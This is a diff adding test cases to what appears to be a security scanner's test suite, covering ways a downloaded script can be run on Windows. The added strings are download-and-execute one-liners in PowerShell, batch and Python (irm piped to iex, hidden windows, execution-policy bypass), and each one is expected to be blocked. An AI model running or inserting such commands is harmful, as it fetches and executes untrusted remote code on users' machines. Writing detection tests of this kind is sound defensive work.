@@ -33,6 +33,19 @@ describe('a download that is run by a program of Windows blocks', () => {
     ['through an alias', 'a.ps1', `Set-Alias go Invoke-Expression\ngo (irm ${url})`],
     ['through a variable', 'a.ps1', `$code = irm ${url}\n$code | Invoke-Expression`],
     ['through a block', 'a.ps1', `& ([scriptblock]::Create((irm ${url})))`],
+    ['behind an option', 'a.bat', `powershell -WindowStyle Hidden -Command "irm ${url} | iex"`],
+    ['in several words', 'a.bat', `powershell -ep bypass -w hidden irm ${url} ^| iex`],
+    ['without an option', 'a.sh', `powershell "irm ${url} | iex"`],
+    [
+      'in a line of Python, with variables of PowerShell',
+      'a.py',
+      `import os\nos.system('powershell -NoP -Command "$a = irm ${url}; iex $a"')`,
+    ],
+    [
+      'by words of Python',
+      'a.py',
+      `import subprocess as s\ndef go(c):\n    s.Popen(["powershell", "-WindowStyle", "Hidden", "-Command", c])\ngo("irm ${url} | iex")`,
+    ],
     ['through a file', 'a.ps1', `iwr ${url} -OutFile a2.ps1\npowershell -File a2.ps1`],
   ])('%s', async (_, path, text) => {
     expect((await scan(path, text)).verdict).toBe('block');
